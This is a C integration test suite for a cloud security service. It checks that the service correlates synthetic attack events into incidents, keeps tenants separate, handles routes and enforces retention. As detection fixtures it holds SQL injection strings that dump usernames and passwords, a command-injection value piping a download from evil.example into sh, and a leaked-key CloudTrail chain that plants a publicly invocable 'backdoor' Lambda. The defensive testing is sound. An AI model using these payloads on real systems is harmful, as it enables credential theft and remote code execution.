/* Correlation into incidents, end to end through the API: a Groundhog Day SQL injection
 * campaign among benign traffic is one incident whose counters and severity grow; an injection
 * followed on the same trace by another function executing and calling out is one story naming
 * both; a leaked key's CloudTrail chain is one incident of five steps; benign traffic opens
 * none; two tenants' identical campaigns never merge. Then the incident routes. */
#define _GNU_SOURCE 1 /* asprintf */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include "obs_util.h"

static struct h_server srv;
static char db[64];
static struct obs_tenant ta, tb, ts, tk, tc, tf;

static int setup(void **state)
{
    static const char *const env[] = {"PARAPET_AWS_ACCOUNT_ID=111122223333",
                                      "PARAPET_JOB_POLL_MS=50", NULL};
    (void)state;
    h_db_new("correlate", db);
    if (h_server_start(&srv, db, NULL, env) != 0)
        return -1;
    /* A and B connect the same AWS account: nothing but the tenant tells them apart. */
    return obs_tenant_new(&srv, "groundhog", "555555555555", &ta) ||
           obs_tenant_new(&srv, "copycat", "555555555555", &tb) ||
           obs_tenant_new(&srv, "storyco", "666666666666", &ts) ||
           obs_tenant_new(&srv, "leakco", "333333333333", &tk) ||
           obs_tenant_new(&srv, "calmco", "777777777777", &tc) ||
           obs_tenant_new(&srv, "postureco", "888888888888", &tf);
}

static int teardown(void **state)
{
    (void)state;
    return h_server_stop(&srv, 10000) == 0 ? 0 : -1;
}

/* A growing NDJSON body. */
struct body {
    char *s;
    size_t n, cap, events;
};

static void add(struct body *b, const char *line)
{
    size_t l = strlen(line);
    if (b->n + l + 2 > b->cap) {
        b->cap = (b->n + l + 2) * 2;
        b->s = realloc(b->s, b->cap);
        assert_non_null(b->s);
    }
    memcpy(b->s + b->n, line, l);
    b->n += l;
    b->s[b->n++] = '\n';
    b->s[b->n] = '\0';
    b->events++;
}

static void send(const struct obs_tenant *t, struct body *b)
{
    static const char *const hdr[] = {"Content-Type: application/x-ndjson", NULL};
    json_t *r = NULL;
    if (b->events == 0)
        return;
    assert_int_equal(obs_call(&srv, "POST", "/v1/events", t->ingest, hdr, b->s, b->n, &r), 202);
    if ((size_t)json_integer_value(json_object_get(r, "accepted")) != b->events)
        fail_msg("accepted %lld of %zu: %s", (long long)json_integer_value(json_object_get(r,
                 "accepted")), b->events, json_dumps(json_object_get(r, "rejected"), 0));
    json_decref(r);
    b->n = 0;
    b->events = 0;
}

/* Adds an event and sends a batch every 500, as a client would. */
static void push(const struct obs_tenant *t, struct body *b, char *line)
{
    add(b, line);
    free(line);
    if (b->events == 500)
        send(t, b);
}

/* An API Gateway v2 invocation of function fn on GET /items with query q. */
static char *invocation(const char *account, long long at, const char *fn, const char *ip,
                        const char *q, const char *trace, const char *response)
{
    char t[32], *s = NULL, tr[160];
    obs_time(at, t);
    tr[0] = '\0';
    if (trace != NULL)
        snprintf(tr, sizeof tr, "\"trace_id\":\"%s\",", trace);
    assert_true(asprintf(&s,
                         "{\"time\":\"%s\",\"type\":\"invocation\",\"account_id\":\"%s\","
                         "\"region\":\"us-east-1\",\"function_arn\":"
                         "\"arn:aws:lambda:us-east-1:%s:function:%s\",\"request_id\":\"%s-%lld-%s\","
                         "%s\"source_ip\":\"%s\",%s\"input\":{\"version\":\"2.0\",\"routeKey\":"
                         "\"GET /items\",\"rawPath\":\"/items\",\"queryStringParameters\":{\"q\":"
                         "\"%s\"},\"requestContext\":{\"http\":{\"method\":\"GET\",\"sourceIp\":"
                         "\"%s\"}}}}",
                         t, account, account, fn, fn, at, ip, tr, ip, response ? response : "",
                         q, ip) > 0);
    return s;
}

static char *violation(const char *account, long long at, const char *fn, const char *action,
                       const char *target, const char *trace)
{
    char t[32], *s = NULL;
    obs_time(at, t);
    assert_true(asprintf(&s,
                         "{\"time\":\"%s\",\"type\":\"fsp.violation\",\"account_id\":\"%s\","
                         "\"function_arn\":\"arn:aws:lambda:us-east-1:%s:function:%s\","
                         "\"trace_id\":\"%s\",\"violation\":{\"action\":\"%s\",\"target\":\"%s\","
                         "\"decision\":\"alerted\"}}",
                         t, account, account, fn, trace, action, target) > 0);
    return s;
}

/* Waits until every signal of the tenant is folded; fails after 60 s. */
static void wait_folded(const struct obs_tenant *t)
{
    char q[512], admin[256];
    long long deadline = h_now_ms() + 60000;
    h_db_admin_url(db, admin, sizeof admin);
    snprintf(q, sizeof q,
             "SELECT coalesce((SELECT xid_done FROM obs_corr_state WHERE tenant_id = '%s') >"
             " (SELECT max(xid) FROM signals WHERE tenant_id = '%s'), false)",
             t->tenant_id, t->tenant_id);
    while (h_now_ms() < deadline) {
        char *v = h_sql(admin, q);
        bool done = v != NULL && strcmp(v, "t") == 0;
        free(v);
        if (done)
            return;
        h_sleep_ms(100);
    }
    fail_msg("correlation did not finish within 60 s");
}

static json_t *incidents(const struct obs_tenant *t, const char *query)
{
    char path[256];
    json_t *r = NULL;
    snprintf(path, sizeof path, "/v1/incidents%s", query ? query : "");
    assert_int_equal(obs_call(&srv, "GET", path, t->token, NULL, NULL, 0, &r), 200);
    return r;
}

static json_t *incident(const struct obs_tenant *t, const char *id)
{
    char path[128];
    json_t *r = NULL;
    snprintf(path, sizeof path, "/v1/incidents/%s", id);
    assert_int_equal(obs_call(&srv, "GET", path, t->token, NULL, NULL, 0, &r), 200);
    return r;
}

static long long counter(const json_t *inc, const char *name)
{
    return json_integer_value(json_object_get(json_object_get(inc, "counters"), name));
}

static const char *const benign[] = {
    "running shoes", "O'Brien", "size 42", "blue t-shirt", "where is my order?",
    "union station to grand central", "select a gift for dad", "rock & roll",
    "50% off", "caf\\u00e9 au lait", "Q: can I return it? A: yes", "d'Artagnan",
};

/* 5,000 injection attempts from 300 addresses over five hours among 20,000 benign requests. */
static void campaign(const struct obs_tenant *t, int attacks, int benign_n)
{
    struct body b = {0};
    int total = attacks + benign_n, a = 0;
    for (int i = 0; i < total; i++) {
        long long at = -5 * 3600 + (long long)i * 5 * 3600 / total;
        char ip[32], q[160];
        bool attack = a < attacks && (long long)i * attacks / total >= a;
        if (attack) {
            snprintf(ip, sizeof ip, a % 300 < 250 ? "198.51.100.%d" : "203.0.113.%d",
                     a % 300 < 250 ? a % 300 + 1 : a % 300 - 249);
            snprintf(q, sizeof q, "1' UNION SELECT username, password FROM users LIMIT 100 "
                                  "OFFSET %d-- ",
                     a * 100);
            push(t, &b, invocation(t->account, at, "catalog", ip, q, NULL,
                                   "\"response\":{\"status\":200,\"rows\":100},"));
            a++;
        } else {
            snprintf(ip, sizeof ip, "192.0.2.%d", i % 200 + 1);
            push(t, &b, invocation(t->account, at, "catalog", ip,
                                   benign[i % (int)(sizeof benign / sizeof benign[0])], NULL,
                                   NULL));
        }
    }
    send(t, &b);
    free(b.s);
    assert_int_equal(a, attacks);
}

static void test_groundhog_day_is_one_incident(void **state)
{
    json_t *list, *inc, *one;
    char q[256];
    (void)state;

    campaign(&ta, 5000, 20000);
    wait_folded(&ta);
    list = incidents(&ta, NULL);
    assert_int_equal(json_array_size(json_object_get(list, "items")), 1);
    one = json_array_get(json_object_get(list, "items"), 0);
    inc = incident(&ta, obs_str(one, "id"));
    assert_string_equal(obs_str(inc, "class"), "sqli");
    assert_string_equal(obs_str(inc, "status"), "open");
    assert_int_equal(counter(inc, "attempts"), 5000);
    assert_int_equal(counter(inc, "distinct_sources"), 300);
    assert_int_equal(counter(inc, "functions"), 1);
    assert_int_equal(counter(inc, "records_exposed"), 500000);
    /* 5,000 attempts from 300 addresses: escalated to critical, and said so. */
    assert_string_equal(obs_str(inc, "severity"), "critical");
    assert_int_equal(json_array_size(json_object_get(json_object_get(inc, "actors"),
                                                     "source_ips")),
                     100);
    assert_string_equal(json_string_value(json_array_get(json_object_get(inc, "functions"), 0)),
                        "arn:aws:lambda:us-east-1:555555555555:function:catalog");
    assert_true(json_array_size(json_object_get(inc, "steps")) >= 1);
    assert_true(json_array_size(json_object_get(inc, "evidence")) >= 1);
    assert_true(strlen(obs_str(json_object_get(inc, "remediation"), "short_term")) > 0);
    assert_non_null(strstr(obs_str(inc, "summary"), "5000 signal(s)"));
    snprintf(q, sizeof q,
             "SELECT count(*) FROM events_outbox WHERE tenant_id = '%s' AND kind ="
             " 'incident.opened'",
             ta.tenant_id);
    assert_int_equal(obs_sql_num(db, q), 1);
    snprintf(q, sizeof q,
             "SELECT count(*) FROM events_outbox WHERE tenant_id = '%s' AND kind IN"
             " ('incident.opened', 'incident.escalated') AND severity = 'critical'",
             ta.tenant_id);
    assert_int_equal(obs_sql_num(db, q), 1); /* notified once at critical, opened or raised */
    json_decref(inc);
    json_decref(list);
}

static void test_two_tenants_campaigns_never_merge(void **state)
{
    json_t *la, *lb, *a, *b;
    (void)state;

    campaign(&tb, 200, 300);
    wait_folded(&tb);
    la = incidents(&ta, NULL);
    lb = incidents(&tb, NULL);
    assert_int_equal(json_array_size(json_object_get(lb, "items")), 1);
    assert_int_equal(json_array_size(json_object_get(la, "items")), 1);
    a = json_array_get(json_object_get(la, "items"), 0);
    b = json_array_get(json_object_get(lb, "items"), 0);
    assert_string_not_equal(obs_str(a, "id"), obs_str(b, "id"));
    assert_int_equal(counter(a, "attempts"), 5000);
    assert_int_equal(counter(b, "attempts"), 200);
    /* And neither can see the other's. */
    {
        char path[128];
        snprintf(path, sizeof path, "/v1/incidents/%s", obs_str(a, "id"));
        assert_int_equal(obs_call(&srv, "GET", path, tb.token, NULL, NULL, 0, NULL), 404);
    }
    json_decref(la);
    json_decref(lb);
}

static void test_injection_then_execution_on_one_trace_is_one_story(void **state)
{
    struct body b = {0};
    /* A client-chosen trace id with Postgres array-literal metacharacters (quote, backslash,
     * braces, comma; JSON-escaped here): it must still join the two batches. */
    const char *trace = "Root=1-67891233-ab\\\"{cd},ef\\\\012345678912345678";
    json_t *list, *inc, *fns;
    (void)state;

    push(&ts, &b, invocation(ts.account, -300, "report-a", "203.0.113.77",
                             "report.pdf; curl -s http://evil.example/x.sh | sh", trace, NULL));
    send(&ts, &b);
    wait_folded(&ts); /* the story continues in a later batch and a later correlation run */
    push(&ts, &b, violation(ts.account, -290, "worker-b", "exec", "/bin/sh", trace));
    push(&ts, &b, violation(ts.account, -289, "worker-b", "connect", "evil.example:443", trace));
    send(&ts, &b);
    free(b.s);
    wait_folded(&ts);
    list = incidents(&ts, NULL);
    assert_int_equal(json_array_size(json_object_get(list, "items")), 1);
    inc = incident(&ts, obs_str(json_array_get(json_object_get(list, "items"), 0), "id"));
    fns = json_object_get(inc, "functions");
    assert_int_equal(json_array_size(fns), 2);
    assert_string_equal(json_string_value(json_array_get(fns, 0)),
                        "arn:aws:lambda:us-east-1:666666666666:function:report-a");
    assert_string_equal(json_string_value(json_array_get(fns, 1)),
                        "arn:aws:lambda:us-east-1:666666666666:function:worker-b");
    assert_int_equal(counter(inc, "steps"), 3);
    assert_string_equal(obs_str(inc, "kind"), "story");
    assert_string_equal(obs_str(inc, "severity"), "critical"); /* it reached execution */
    json_decref(inc);
    json_decref(list);
}

static char *trail(const char *account, long long at, const char *source, const char *name,
                   const char *params)
{
    char t[32], *s = NULL, id[40];
    static int n;
    obs_time(at, t);
    snprintf(id, sizeof id, "7e1f0000-0000-4000-8000-%012d", ++n);
    assert_true(asprintf(&s,
                         "{\"time\":\"%s\",\"type\":\"cloudtrail\",\"account_id\":\"%s\","
                         "\"region\":\"us-east-1\",\"record\":{\"eventVersion\":\"1.09\","
                         "\"userIdentity\":{\"type\":\"IAMUser\",\"principalId\":\"AIDAEXAMPLE\","
                         "\"arn\":\"arn:aws:iam::%s:user/ci-bot\",\"accountId\":\"%s\","
                         "\"accessKeyId\":\"AKIALEAKEDKEY0000001\",\"userName\":\"ci-bot\"},"
                         "\"eventTime\":\"%s\",\"eventSource\":\"%s\",\"eventName\":\"%s\","
                         "\"awsRegion\":\"us-east-1\",\"sourceIPAddress\":\"203.0.113.66\","
                         "\"userAgent\":\"aws-cli/2.15.30\",\"requestParameters\":%s,"
                         "\"eventID\":\"%s\",\"readOnly\":false,\"eventType\":\"AwsApiCall\","
                         "\"recipientAccountId\":\"%s\"}}",
                         t, account, account, account, t, source, name, params, id,
                         account) > 0);
    return s;
}

static void test_leaked_key_chain_is_one_incident_of_five_steps(void **state)
{
    static const struct {
        const char *source, *name, *params;
    } chain[] = {
        {"sts.amazonaws.com", "GetCallerIdentity", "null"},
        {"lambda.amazonaws.com", "ListFunctions20150331", "null"},
        {"lambda.amazonaws.com", "CreateFunction20150331",
         "{\"functionName\":\"backdoor\",\"runtime\":\"python3.12\",\"role\":"
         "\"arn:aws:iam::333333333333:role/admin-role\",\"handler\":\"app.handler\"}"},
        {"lambda.amazonaws.com", "AddPermission20150331v2",
         "{\"functionName\":\"backdoor\",\"statementId\":\"pub\",\"action\":"
         "\"lambda:InvokeFunctionUrl\",\"principal\":\"*\"}"},
        {"lambda.amazonaws.com", "UpdateFunctionCode20150331v2",
         "{\"functionName\":\"payments-webhook\",\"publish\":true}"},
    };
    json_t *list, *inc, *steps;
    (void)state;

    /* One request per call, as a trail delivers them; correlation may run between them. */
    for (size_t i = 0; i < sizeof chain / sizeof chain[0]; i++) {
        struct body b = {0};
        push(&tk, &b, trail(tk.account, -600 + (long long)i * 60, chain[i].source, chain[i].name,
                            chain[i].params));
        send(&tk, &b);
        free(b.s);
        h_sleep_ms(150);
    }
    wait_folded(&tk);
    list = incidents(&tk, NULL);
    assert_int_equal(json_array_size(json_object_get(list, "items")), 1);
    inc = incident(&tk, obs_str(json_array_get(json_object_get(list, "items"), 0), "id"));
    steps = json_object_get(inc, "steps");
    assert_int_equal(json_array_size(steps), 5);
    assert_int_equal(counter(inc, "steps"), 5);
    assert_string_equal(obs_str(json_array_get(steps, 0), "technique"), "GetCallerIdentity");
    assert_string_equal(obs_str(json_array_get(steps, 1), "technique"), "ListFunctions");
    assert_string_equal(obs_str(json_array_get(steps, 2), "rule_id"), "CT-01");
    assert_string_equal(obs_str(json_array_get(steps, 3), "rule_id"), "CT-06");
    assert_string_equal(obs_str(json_array_get(steps, 4), "rule_id"), "CT-02");
    assert_string_equal(obs_str(inc, "kind"), "cloud");
    assert_string_equal(obs_str(inc, "severity"), "critical");
    assert_string_equal(
        json_string_value(json_array_get(json_object_get(json_object_get(inc, "actors"),
                                                         "access_keys"), 0)),
        "AKIALEAKEDKEY0000001");
    json_decref(inc);
    json_decref(list);
}

static void test_a_burst_of_access_denied_opens_one_incident(void **state)
{
    struct body b = {0};
    json_t *list, *inc;
    char q[256];
    (void)state;

    /* 24 denied calls by one principal within four minutes, after a clean day: weak alone,
     * a burst together (20 denials in 5 minutes). A 25th, ten minutes after the burst and the
     * last of the batch, must not hide it: the whole span of the batch is searched, not only
     * the window ending at its last signal. */
    for (int i = 0; i < 25; i++) {
        char *t = trail(tc.account, i < 24 ? -900 + i * 10 : -60, "iam.amazonaws.com",
                        i % 2 ? "ListRoles" : "GetAccountAuthorizationDetails", "null");
        char *at = strstr(t, "\"requestParameters\"");
        char *line = NULL;
        assert_non_null(at);
        assert_true(asprintf(&line, "%.*s\"errorCode\":\"AccessDenied\",%s", (int)(at - t), t,
                             at) > 0);
        free(t);
        push(&tc, &b, line);
    }
    send(&tc, &b);
    free(b.s);
    wait_folded(&tc);
    list = incidents(&tc, NULL);
    assert_int_equal(json_array_size(json_object_get(list, "items")), 1);
    inc = incident(&tc, obs_str(json_array_get(json_object_get(list, "items"), 0), "id"));
    assert_string_equal(obs_str(inc, "class"), "access-denied");
    assert_string_equal(obs_str(inc, "severity"), "medium");
    assert_int_equal(counter(inc, "attempts"), 25); /* the burst and what followed */
    snprintf(q, sizeof q, "SELECT count(*) FROM signals WHERE tenant_id = '%s' AND weak",
             tc.tenant_id);
    assert_true(obs_sql_num(db, q) >= 25);
    json_decref(inc);
    json_decref(list);
}

/* CT-08 with an inventory (what a posture scan stores): a change to the function's role is a
 * signal of its own; a change to another role of the account is weak, joining a story only. */
static void test_role_changes_are_judged_against_the_inventory(void **state)
{
    struct body b = {0};
    char q[1024], admin[256];
    (void)state;

    h_db_admin_url(db, admin, sizeof admin);
    snprintf(q, sizeof q,
             "INSERT INTO resources (tenant_id, resource_id, account_id, region, type, arn, name,"
             " data) SELECT tenant_id, gen_random_uuid(), account_id, 'us-east-1', 'aws.iam.role',"
             " 'arn:aws:iam::%s:role/service/orders-fn', 'orders-fn',"
             " '{\"RoleName\":\"orders-fn\",\"AttachedPolicies\":[{\"PolicyArn\":"
             "\"arn:aws:iam::%s:policy/orders-data\"}]}'"
             " FROM cloud_accounts WHERE tenant_id = '%s'",
             tc.account, tc.account, tc.tenant_id);
    assert_int_equal(h_sql_exec(admin, q, false), 0);
    push(&tc, &b, trail(tc.account, -30, "iam.amazonaws.com", "PutRolePolicy",
                        "{\"roleName\":\"orders-fn\",\"policyName\":\"p\",\"policyDocument\":"
                        "\"{}\"}"));
    push(&tc, &b, trail(tc.account, -29, "iam.amazonaws.com", "PutRolePolicy",
                        "{\"roleName\":\"build-cache\",\"policyName\":\"p\",\"policyDocument\":"
                        "\"{}\"}"));
    snprintf(q, sizeof q, "{\"policyArn\":\"arn:aws:iam::%s:policy/orders-data\","
                          "\"policyDocument\":\"{}\",\"setAsDefault\":true}", tc.account);
    push(&tc, &b, trail(tc.account, -28, "iam.amazonaws.com", "CreatePolicyVersion", q));
    send(&tc, &b);
    free(b.s);
    snprintf(q, sizeof q,
             "SELECT string_agg(technique || ':' || weak, ',' ORDER BY time) FROM signals"
             " WHERE tenant_id = '%s' AND rule_id = 'CT-08'",
             tc.tenant_id);
    {
        char *v = h_sql(admin, q);
        assert_non_null(v);
        assert_string_equal(v, "function-role-permissions-changed:false,"
                               "role-permissions-changed:true,"
                               "function-role-permissions-changed:false");
        free(v);
    }
}

/* A posture finding open on the attacked function (its role can read every table, say) is
 * attached to the incident and makes it worse. */
static void test_open_posture_findings_on_the_function_are_attached(void **state)
{
    struct body b = {0};
    char admin[256], sql[2048];
    json_t *list, *inc, *fs;
    (void)state;

    h_db_admin_url(db, admin, sizeof admin);
    snprintf(sql, sizeof sql,
             "WITH a AS (SELECT tenant_id, account_id FROM cloud_accounts"
             "            WHERE tenant_id = '%s'),"
             " r AS (INSERT INTO resources (tenant_id, resource_id, account_id, region, type, arn,"
             "        name, data) SELECT tenant_id, gen_random_uuid(), account_id, 'us-east-1',"
             "        'aws.lambda.function',"
             "        'arn:aws:lambda:us-east-1:888888888888:function:orders-api', 'orders-api',"
             "        '{}' FROM a RETURNING tenant_id, account_id, resource_id, arn)"
             " INSERT INTO findings (tenant_id, finding_id, account_id, resource_id, resource_arn,"
             "  rule_id, fingerprint, category, severity, title)"
             " SELECT tenant_id, 'aaaaaaaa-0000-4000-8000-000000000001', account_id, resource_id,"
             "  arn, 'PAR-IAM-004', md5(arn), 'iam-overprivileged', 'high',"
             "  'Execution role reads sensitive data on every resource' FROM r",
             tf.tenant_id);
    assert_int_equal(h_sql_exec(admin, sql, false), 0);
    push(&tf, &b, invocation(tf.account, -120, "orders-api", "198.51.100.9",
                             "1' UNION SELECT username, password FROM users--", NULL, NULL));
    send(&tf, &b);
    free(b.s);
    wait_folded(&tf);
    list = incidents(&tf, NULL);
    assert_int_equal(json_array_size(json_object_get(list, "items")), 1);
    inc = incident(&tf, obs_str(json_array_get(json_object_get(list, "items"), 0), "id"));
    fs = json_object_get(inc, "findings");
    assert_int_equal(json_array_size(fs), 1);
    assert_string_equal(json_string_value(json_array_get(fs, 0)),
                        "aaaaaaaa-0000-4000-8000-000000000001");
    json_decref(inc);
    json_decref(list);
}

static void test_benign_traffic_opens_nothing(void **state)
{
    struct body b = {0};
    json_t *list;
    (void)state;

    for (int i = 0; i < 3000; i++) {
        char ip[32];
        snprintf(ip, sizeof ip, "192.0.2.%d", i % 250 + 1);
        push(&tc, &b, invocation(tc.account, -3600 + i, "catalog", ip,
                                 benign[i % (int)(sizeof benign / sizeof benign[0])], NULL, NULL));
    }
    push(&tc, &b, violation(tc.account, -10, "catalog", "open", "/tmp/cache.json", "t-1"));
    push(&tc, &b, trail(tc.account, -20, "lambda.amazonaws.com", "ListFunctions20150331",
                        "null"));
    push(&tc, &b, trail(tc.account, -19, "lambda.amazonaws.com", "GetFunction20150331v2",
                        "{\"functionName\":\"catalog\"}"));
    send(&tc, &b);
    free(b.s);
    h_sleep_ms(1500);
    wait_folded(&tc);
    list = incidents(&tc, NULL);
    assert_int_equal(json_array_size(json_object_get(list, "items")), 0);
    json_decref(list);
}

static void test_incident_routes(void **state)
{
    json_t *list, *page, *r = NULL, *ids = json_object();
    char path[256], id[40], q[512];
    const char *cursor;
    long long seen = 0;
    (void)state;

    list = incidents(&ta, "?status=open&severity=critical&account_id=555555555555");
    assert_int_equal(json_array_size(json_object_get(list, "items")), 1);
    snprintf(id, sizeof id, "%s", obs_str(json_array_get(json_object_get(list, "items"), 0), "id"));
    json_decref(list);
    list = incidents(&ta, "?severity=low");
    assert_int_equal(json_array_size(json_object_get(list, "items")), 0);
    json_decref(list);
    assert_int_equal(obs_call(&srv, "GET", "/v1/incidents?status=closed", ta.token, NULL, NULL, 0,
                              NULL),
                     400);
    assert_int_equal(obs_call(&srv, "GET", "/v1/incidents?cursor=abc", ta.token, NULL, NULL, 0,
                              NULL),
                     400);
    /* Every folded event, page by page, with its request id and detector. */
    cursor = NULL;
    for (int pages = 0; pages < 20; pages++) {
        char c[64] = "";
        if (cursor != NULL)
            snprintf(c, sizeof c, "&cursor=%.40s", cursor);
        snprintf(path, sizeof path, "/v1/incidents/%s/events?limit=500%s", id, c);
        assert_int_equal(obs_call(&srv, "GET", path, ta.token, NULL, NULL, 0, &page), 200);
        seen += (long long)json_array_size(json_object_get(page, "items"));
        for (size_t k = 0; k < json_array_size(json_object_get(page, "items")); k++) {
            long long sid = json_integer_value(
                json_object_get(json_array_get(json_object_get(page, "items"), k), "signal_id"));
            char key[24];
            assert_true(sid > 0);
            snprintf(key, sizeof key, "%lld", sid);
            assert_true(json_object_set_new(ids, key, json_true()) == 0);
        }
        if (pages == 0) {
            json_t *e = json_array_get(json_object_get(page, "items"), 0);
            assert_string_equal(obs_str(e, "detector"), "payload.sqli");
            assert_true(strlen(obs_str(e, "request_id")) > 0);
            assert_true(strlen(obs_str(e, "source_ip")) > 0);
        }
        cursor = json_string_value(json_object_get(page, "next_cursor"));
        if (cursor == NULL) {
            json_decref(page);
            break;
        }
        snprintf(q, sizeof q, "%s", cursor);
        cursor = q;
        json_decref(page);
    }
    assert_int_equal(seen, 5000);
    assert_int_equal(json_object_size(ids), 5000); /* each once */
    json_decref(ids);
    /* Acknowledge, then resolve (secops and above), audited; resolving notifies. */
    snprintf(path, sizeof path, "/v1/incidents/%s", id);
    assert_int_equal(obs_call(&srv, "PATCH", path, ta.token, NULL,
                              "{\"status\":\"acknowledged\",\"note\":\"looking\"}", 42, &r),
                     200);
    assert_string_equal(obs_str(r, "status"), "acknowledged");
    assert_string_equal(obs_str(r, "note"), "looking");
    json_decref(r);
    assert_int_equal(obs_call(&srv, "PATCH", path, ta.token, NULL, "{\"status\":\"open\"}", 17,
                              NULL),
                     400);
    assert_int_equal(obs_call(&srv, "PATCH", path, ta.token, NULL, "{\"status\":\"resolved\"}",
                              21, &r),
                     200);
    assert_string_equal(obs_str(r, "status"), "resolved");
    assert_true(strlen(obs_str(r, "resolved_at")) > 0);
    json_decref(r);
    assert_int_equal(obs_call(&srv, "PATCH", path, ta.token, NULL, "{\"status\":\"resolved\"}",
                              21, NULL),
                     409);
    snprintf(q, sizeof q,
             "SELECT count(*) FROM events_outbox WHERE tenant_id = '%s' AND kind ="
             " 'incident.resolved' AND subject_id = '%s'",
             ta.tenant_id, id);
    assert_int_equal(obs_sql_num(db, q), 1);
    snprintf(q, sizeof q,
             "SELECT count(*) FROM audit_log WHERE tenant_id = '%s' AND target_id = '%s'"
             " AND action IN ('incident.acknowledge', 'incident.resolve')",
             ta.tenant_id, id);
    assert_int_equal(obs_sql_num(db, q), 2);
    snprintf(path, sizeof path, "/v1/incidents/00000000-0000-4000-8000-000000000000");
    assert_int_equal(obs_call(&srv, "GET", path, ta.token, NULL, NULL, 0, NULL), 404);
    /* A new attempt after resolution opens a new incident rather than reviving this one. */
    {
        struct body b = {0};
        push(&ta, &b, invocation(ta.account, -1, "catalog", "198.51.100.1",
                                 "1' UNION SELECT username, password FROM users LIMIT 100 "
                                 "OFFSET 7-- ",
                                 NULL, NULL));
        send(&ta, &b);
        free(b.s);
        wait_folded(&ta);
        list = incidents(&ta, "?status=open");
        assert_int_equal(json_array_size(json_object_get(list, "items")), 1);
        assert_string_not_equal(
            obs_str(json_array_get(json_object_get(list, "items"), 0), "id"), id);
        json_decref(list);
    }
}

/* Retention (the obs.partitions job's function, run here as the application role): the day
 * partitions and signals older than the retention go, with the attachment of a weak signal it
 * deletes; newer signals stay. */
static void test_retention_drops_old_days_and_signals(void **state)
{
    char app[256], admin[256], q[1024], *v;
    long long recent;
    (void)state;

    h_db_url(db, false, app, sizeof app);
    h_db_admin_url(db, admin, sizeof admin);
    assert_int_equal(obs_sql_num(db, "SELECT count(*) FROM (SELECT obs_partition_ensure("
                                     "(now() AT TIME ZONE 'UTC')::date - 40)) x"),
                     1);
    snprintf(q, sizeof q,
             "WITH s AS (INSERT INTO signals (tenant_id, time, event_id, source, rule_id, class,"
             " technique, confidence, severity, weak, account_id)"
             " VALUES ('%s', now() - interval '40 days', gen_random_uuid(), 'cloudtrail',"
             " 'CT-01', 'recon', 'ListFunctions', 0.3, 'low', true, '%s') RETURNING signal_id)"
             " INSERT INTO weak_signals_attached (tenant_id, signal_id)"
             " SELECT '%s', signal_id FROM s",
             tc.tenant_id, tc.account, tc.tenant_id);
    assert_int_equal(h_sql_exec(admin, q, false), 0);
    snprintf(q, sizeof q,
             "SELECT count(*) FROM signals WHERE tenant_id = '%s' AND time > now() - interval"
             " '1 day'",
             tc.tenant_id);
    recent = obs_sql_num(db, q);
    assert_true(recent > 0);
    v = h_sql(app, "SELECT obs_retention(30)");
    assert_non_null(v);
    assert_true(strtol(v, NULL, 10) >= 1); /* at least the partition made above */
    free(v);
    assert_int_equal(obs_sql_num(db, "SELECT count(*) FROM pg_class WHERE relname ="
                                     " 'events_p' || to_char((now() AT TIME ZONE 'UTC')::date"
                                     " - 40, 'YYYYMMDD')"),
                     0);
    assert_int_equal(obs_sql_num(db, "SELECT count(*) FROM signals WHERE time < now() -"
                                     " interval '31 days'"),
                     0);
    assert_int_equal(obs_sql_num(db, "SELECT count(*) FROM weak_signals_attached a WHERE NOT"
                                     " EXISTS (SELECT 1 FROM signals s WHERE s.tenant_id ="
                                     " a.tenant_id AND s.signal_id = a.signal_id)"),
                     0);
    snprintf(q, sizeof q,
             "SELECT count(*) FROM signals WHERE tenant_id = '%s' AND time > now() - interval"
             " '1 day'",
             tc.tenant_id);
    assert_int_equal(obs_sql_num(db, q), recent);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_groundhog_day_is_one_incident),
        cmocka_unit_test(test_two_tenants_campaigns_never_merge),
        cmocka_unit_test(test_injection_then_execution_on_one_trace_is_one_story),
        cmocka_unit_test(test_leaked_key_chain_is_one_incident_of_five_steps),
        cmocka_unit_test(test_open_posture_findings_on_the_function_are_attached),
        cmocka_unit_test(test_benign_traffic_opens_nothing),
        cmocka_unit_test(test_a_burst_of_access_denied_opens_one_incident),
        cmocka_unit_test(test_role_changes_are_judged_against_the_inventory),
        cmocka_unit_test(test_incident_routes),
        cmocka_unit_test(test_retention_drops_old_days_and_signals),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
